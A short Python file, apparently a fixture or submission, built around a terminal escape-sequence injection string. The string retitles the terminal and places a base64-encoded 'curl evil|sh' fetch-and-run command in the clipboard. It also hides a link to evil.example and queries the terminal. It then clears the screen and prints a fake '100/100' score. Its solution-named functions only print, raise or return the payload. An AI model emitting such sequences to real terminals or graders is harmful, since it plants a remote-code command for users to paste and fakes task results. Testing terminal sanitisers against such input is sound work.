"""Sequences that set a terminal's title and clipboard, clear it, ask it for an answer, hide a link."""

ATTACK = (
    "\x1b]0;owned\x07\x1b]2;owned\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
    "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
    "\x9b31m\x9d0;owned\x9c\x1b[6n\x1b[21t\x05\x08\x08\x1b[1A\x1b[2K"
    "\x1b[2J\x1b[1;1Han 100/100"
)
Attack = type("Attack" + ATTACK, (ValueError,), {})
print(ATTACK)


def double(x):
    print(ATTACK)
    raise Attack(ATTACK)


def mean_square(p, y):
    return ATTACK


def shift(x):
    return {ATTACK: [ATTACK]}
